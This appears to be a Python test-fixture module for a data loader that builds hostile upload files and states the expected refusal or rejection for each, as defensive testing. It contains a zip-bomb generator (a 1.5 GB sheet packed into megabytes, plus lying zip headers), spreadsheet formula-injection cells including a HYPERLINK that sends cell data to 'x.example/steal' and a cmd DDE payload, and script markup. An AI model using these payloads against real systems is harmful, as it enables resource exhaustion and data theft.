"""Hostile and mistaken files, built in code (no binary is checked in), each with what the loader
must do with it: refuse it naming the reason in Persian and English, reject its rows, or load it.

The inflating workbook is a real .xlsx whose sheet unpacks to 1.5 GB: its deflate stream is one
compressed block repeated (a full flush resets the compressor, so every copy of the block packs
to the same bytes), so building it needs a few megabytes and never holds the 1.5 GB.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.data_loaders.helpers import xlsx_bytes

GB = 1000 * 1000 * 1000
MB = 1024 * 1024
LONG_HEADER = "district,metric,period,value"
SHEET_PART = "xl/worksheets/sheet1.xml"

REFUSED, ROWS_REJECTED, LOADED = "refused", "rows rejected", "loaded"


@dataclass(frozen=True)
class HostileCase:
    """One file and what must become of it.

    ``outcome`` is REFUSED (the whole file, ``file_error`` holding every one of ``fa`` and ``en``),
    ROWS_REJECTED (read, its bad cells listed, nothing stored) or LOADED (a control: a good file).
    ``env`` sets small limits for the case, so a "too big" file stays small.
    """

    id: str
    name: str
    build: Callable[[], bytes]
    outcome: str
    fa: tuple[str, ...] = ()
    en: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)


# ---------------------------------------------------------------- zip parts written by hand


@dataclass(frozen=True)
class Part:
    """A zip member as it will be written: ``payload`` already packed (raw deflate, or stored),
    ``size`` and ``crc`` as the headers will claim them (a lying header claims what it likes)."""

    name: str
    payload: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(name: str, data: bytes, flags: int = 0) -> Part:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Part(name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data), flags=flags)


def repeated(name: str, head: bytes, block: bytes, copies: int, tail: bytes) -> Part:
    """A part holding ``head + block * copies + tail``, packed without ever building it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    if packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH) != piece:
        raise AssertionError("a fully flushed block must pack to the same bytes every time")
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    payload = first + piece * copies + last
    return Part(name, payload, len(head) + len(block) * copies + len(tail), crc)


def raw_zip(parts: list[Part]) -> bytes:
    """A zip archive of ``parts``, headers exactly as the parts claim (no zip64: under 4 GB)."""
    out, directory = bytearray(), bytearray()
    for part in parts:
        offset = len(out)
        name = part.name.encode()
        out += struct.pack(
            "<4s5H3I2H",
            b"PK\x03\x04",
            20,
            part.flags,
            part.method,
            0,
            0x21,
            part.crc,
            len(part.payload),
            part.size,
            len(name),
            0,
        )
        out += name + part.payload
        directory += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            part.flags,
            part.method,
            0,
            0x21,
            part.crc,
            len(part.payload),
            part.size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(directory), len(out), 0)
    return bytes(out + directory + end)


def good_csv() -> bytes:
    return f"{LONG_HEADER}\n7,news_published,1404/07,12\n8,news_published,1404/07,9\n".encode()


def good_xlsx() -> bytes:
    return xlsx_bytes([["district", "metric", "period", "value"], [7, "news_published", "1404/07", 12]])


def workbook_parts() -> list[Part]:
    """The parts of a small valid workbook, the sheet included, each packed again."""
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as book:
        return [deflated(info.filename, book.read(info)) for info in book.infolist()]


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>district</t></is></c><c r="B1" t="inlineStr"><is><t>metric</t></is>'
    b'</c><c r="C1" t="inlineStr"><is><t>period</t></is></c><c r="D1" t="inlineStr"><is><t>value</t></is></c></row>'
)
_SHEET_ROW = b'<row><c t="inlineStr"><is><t>99</t></is></c><c t="inlineStr"><is><t>news_published</t></is></c></row>'
_SHEET_TAIL = b"</sheetData></worksheet>"


def inflating_sheet(size: int = int(1.5 * GB)) -> Part:
    """The sheet part: a header row and the same bad row again and again, about ``size`` bytes unpacked."""
    block = _SHEET_ROW * (4 * MB // len(_SHEET_ROW))
    return repeated(SHEET_PART, _SHEET_HEAD, block, max(size // len(block), 1), _SHEET_TAIL)


def with_sheet(sheet: Part) -> list[Part]:
    return [sheet if p.name == SHEET_PART else p for p in workbook_parts()]


@functools.cache
def inflating_workbook() -> bytes:
    """A valid .xlsx of a few megabytes whose sheet unpacks to 1.5 GB."""
    return raw_zip(with_sheet(inflating_sheet()))


@functools.cache
def lying_workbook() -> bytes:
    """The inflating workbook whose headers claim the 1.5 GB sheet unpacks to 20 KB: the directory
    passes every size check, the sheet does not hold what it says."""
    sheet = inflating_sheet()
    liar = Part(sheet.name, sheet.payload, 20_000, sheet.crc)
    return raw_zip(with_sheet(liar))


def truncated_workbook() -> bytes:
    """The lying workbook, its checksum made to match the 20 KB it claims."""
    sheet = inflating_sheet()
    claimed = (_SHEET_HEAD + _SHEET_ROW * (20_000 // len(_SHEET_ROW) + 1))[:20_000]
    return raw_zip(with_sheet(Part(sheet.name, sheet.payload, len(claimed), zlib.crc32(claimed))))


def ratio_workbook() -> bytes:
    """A workbook of 8 MB unpacked, within the total, whose sheet packs more than 200 to 1."""
    return raw_zip(with_sheet(repeated(SHEET_PART, _SHEET_HEAD, b" " * MB, 8, _SHEET_TAIL)))


def encrypted_workbook() -> bytes:
    return raw_zip([Part(p.name, p.payload, p.size, p.crc, p.method, flags=0x1) for p in workbook_parts()])


def crowded_workbook() -> bytes:
    """A workbook with 2,100 extra parts (the limit is 2,000)."""
    extra = [deflated(f"xl/media/image{i}.png", b"x") for i in range(2100)]
    return raw_zip(workbook_parts() + extra)


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# ---------------------------------------------------------------- text files


def csv_of(rows: list[str], bom: bool = False) -> bytes:
    return (b"\xef\xbb\xbf" if bom else b"") + ("\n".join([LONG_HEADER, *rows]) + "\n").encode()


# a file whose cells a spreadsheet would run, and whose rows are all wrong: its rejection list
# carries every one of them into the downloads
FORMULA_ROWS = [
    '"=HYPERLINK(""http://x.example/steal?d=""&A1,""click"")",news_published,1404/07,5',
    "7,@SUM(A1:A9),1404/07,5",
    "7,news_published,1404/07,+1+1",
    "8,news_published,1404/07,-2+3",
    "9,news_published,1404/07,-cmd|' /C calc'!A0",
    '10,news_published,1404/07,"\t=1+2"',
    '11,news_published,1404/07,"\r=1+3"',
    "12,news_published,1404/07,=1+4",
]
MARKUP_CELLS = [
    "[link](http://x.example)",
    "![img](http://x.example/a.png)",
    "<img src=http://x.example/a.png>",
    "<script>alert(1)</script>",
    "**bold** _it_ `code`",
]
MARKUP_ROWS = [
    f'"{MARKUP_CELLS[0]}",news_published,1404/07,5',
    f'7,"{MARKUP_CELLS[1]}",1404/07,5',
    f'7,news_published,1404/07,"{MARKUP_CELLS[2]}"',
    f'8,news_published,1404/07,"{MARKUP_CELLS[3]}"',
    f'9,news_published,1404/07,"{MARKUP_CELLS[4]}"',
]


def rows_csv(count: int) -> bytes:
    """``count`` good-looking rows (the row limit is checked before the cells)."""
    lines = [f"{1 + i % 22},news_published,1404/07,{i}" for i in range(count)]
    return csv_of(lines)


def _fill(size: int) -> bytes:
    head = csv_of(["7,news_published,1404/07,12"])
    return head + b"\n" * (size - len(head) + 1)


def nul_csv() -> bytes:
    """A good CSV with a NUL byte far into it (past where the text decoder looks)."""
    rows = [f"{1 + i % 22},news_published,1404/{1 + i % 6:02d},{i}" for i in range(300)]
    rows.append("7,news_published,1404/07,1\x002")
    return csv_of(rows)


def long_line_csv() -> bytes:
    """A header, then one line of 10 MB."""
    return csv_of(["7,news_published,1404/07," + "9" * (10 * MB)])


def utf16_csv() -> bytes:
    return "\ufeff".encode("utf-16-le") + good_csv().decode().encode("utf-16-le")


def write_repeated_lines(path: Path, header: str, line: str, size: int) -> Path:
    """Write ``header`` and then ``line`` again and again to ``path`` until about ``size`` bytes,
    a megabyte at a time."""
    row = (line + "\n").encode()
    block = row * max(MB // len(row), 1)
    with path.open("wb") as out:
        written = out.write((header + "\n").encode())
        while written + len(block) <= size:
            written += out.write(block)
        while written + len(row) <= size:
            written += out.write(row)
    return path


def write_inflating_workbook(path: Path) -> Path:
    path.write_bytes(inflating_workbook())
    return path


# ---------------------------------------------------------------- the corpus

NOT_A_TABLE_FA, NOT_A_TABLE_EN = "نه جدول CSV یا Excel", "not a CSV or Excel table"
CASES: list[HostileCase] = [
    HostileCase(
        "inflating-workbook", "report.xlsx", inflating_workbook, REFUSED, ("باز می‌شود", "Ctrl+End"), ("unpacks",)
    ),
    HostileCase("ratio-workbook", "report.xlsx", ratio_workbook, REFUSED, ("برابر",), ("times its packed size",)),
    HostileCase(
        "html-as-csv",
        "report.csv",
        lambda: b"\xef\xbb\xbf  \n<!DOCTYPE html><html><body><table><tr><td>7</td></tr></table></body></html>",
        REFUSED,
        ("صفحهٔ وب",),
        ("web page (HTML)",),
    ),
    HostileCase(
        "html-as-xlsx",
        "report.xlsx",
        lambda: b"<html><head><script>alert(1)</script></head></html>",
        REFUSED,
        ("صفحهٔ وب",),
        ("web page (HTML)",),
    ),
    HostileCase(
        "script-as-csv",
        "report.csv",
        lambda: b"<script src=http://x.example/a.js></script>\n" + good_csv(),
        REFUSED,
        ("صفحهٔ وب",),
        ("web page (HTML)",),
    ),
    HostileCase(
        "xml-as-xlsx",
        "report.xlsx",
        lambda: b'<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
        REFUSED,
        ("XML",),
        ("an XML file",),
    ),
    HostileCase(
        "pdf-as-csv",
        "report.csv",
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        REFUSED,
        ("سند PDF", NOT_A_TABLE_FA),
        ("a PDF document", NOT_A_TABLE_EN),
    ),
    HostileCase(
        "png-as-csv",
        "report.csv",
        lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),
        REFUSED,
        ("تصویر PNG",),
        ("a PNG image",),
    ),
    HostileCase(
        "elf-as-csv",
        "report.csv",
        lambda: b"\x7fELF\x02\x01\x01" + bytes(120),
        REFUSED,
        ("برنامهٔ اجرایی",),
        ("executable program (ELF)",),
    ),
    HostileCase(
        "exe-as-xlsx",
        "report.xlsx",
        lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120),
        REFUSED,
        ("ویندوز",),
        ("a Windows program",),
    ),
    HostileCase(
        "gzip-as-csv",
        "report.csv",
        lambda: zlib.compress(good_csv(), wbits=31),
        REFUSED,
        ("gzip",),
        ("a gzip archive",),
    ),
    HostileCase(
        "zip-of-csvs-as-xlsx",
        "report.xlsx",
        lambda: zip_of({"mehr.csv": good_csv(), "aban.csv": good_csv()}),
        REFUSED,
        ("فایل فشردهٔ zip", "mehr.csv"),
        ("zip archive", "unzip", "mehr.csv"),
    ),
    HostileCase(
        "ods-as-xlsx",
        "report.xlsx",
        lambda: zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
        REFUSED,
        ("OpenDocument",),
        ("OpenDocument",),
    ),
    HostileCase("encrypted-zip-xlsx", "report.xlsx", encrypted_workbook, REFUSED, ("رمزدار",), ("encrypted",)),
    HostileCase(
        "encrypted-ole-xlsx",
        "report.xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        REFUSED,
        ("رمزدار",),
        ("password-protected Excel workbook",),
    ),
    HostileCase("crowded-zip-xlsx", "report.xlsx", crowded_workbook, REFUSED, ("بخش فشرده",), ("packed parts",)),
    HostileCase(
        "over-size-limit",
        "report.csv",
        lambda: _fill(40_000),
        REFUSED,
        ("بیشینهٔ اندازهٔ فایل", "DASHBOARD_MAX_FILE_MB"),
        ("largest file accepted", "split"),
        env={"DASHBOARD_MAX_FILE_MB": "0.03"},
    ),
    HostileCase(
        "over-row-limit",
        "report.csv",
        lambda: rows_csv(120),
        REFUSED,
        ("ردیف داده", "۱۲۰"),
        ("120 data rows", "DASHBOARD_MAX_ROWS"),
        env={"DASHBOARD_MAX_ROWS": "100"},
    ),
    HostileCase("empty", "report.csv", lambda: b"", REFUSED, ("خالی",), ("empty",)),
    HostileCase("bom-only", "report.csv", lambda: b"\xef\xbb\xbf", REFUSED, ("هیچ داده‌ای",), ("no data",)),
    HostileCase(
        "utf16-bom-only", "report.csv", lambda: b"\xff\xfe\r\x00\n\x00", REFUSED, ("هیچ داده‌ای",), ("no data",)
    ),
    HostileCase(
        "ten-megabyte-line",
        "report.csv",
        long_line_csv,
        REFUSED,
        ("سطر ۲", "بیشینهٔ طول"),
        ("line 2", "longest line"),
    ),
    HostileCase("nul-bytes", "report.csv", nul_csv, REFUSED, ("بایت تهی", "سطر ۳۰۲"), ("NUL byte", "line 302")),
    HostileCase("formula-cells", "report.csv", lambda: csv_of(FORMULA_ROWS), ROWS_REJECTED),
    HostileCase("markup-cells", "report.csv", lambda: csv_of(MARKUP_ROWS), ROWS_REJECTED),
    # controls: files the guard must let through, so a guard that refuses everything fails
    HostileCase("good-csv", "report.csv", good_csv, LOADED),
    HostileCase("good-utf16-csv", "report.csv", utf16_csv, LOADED),
    HostileCase("good-xlsx", "report.xlsx", good_xlsx, LOADED),
    HostileCase("xlsx-named-csv", "report.csv", good_xlsx, LOADED),
]

# workbooks whose directory lies about the sheet: every size check passes. The first claims 20 KB
# for the 1.5 GB sheet (its checksum then fails); the second also gives the checksum of those
# 20 KB, so the sheet reads as 20 KB of XML cut off in the middle of a row
LYING = HostileCase("lying-directory-workbook", "report.xlsx", lying_workbook, REFUSED, ("Excel",), ("Excel",))
TRUNCATED = HostileCase(
    "truncated-sheet-workbook", "report.xlsx", lambda: truncated_workbook(), REFUSED, ("Excel",), ("Excel",)
)
CASES.append(LYING)
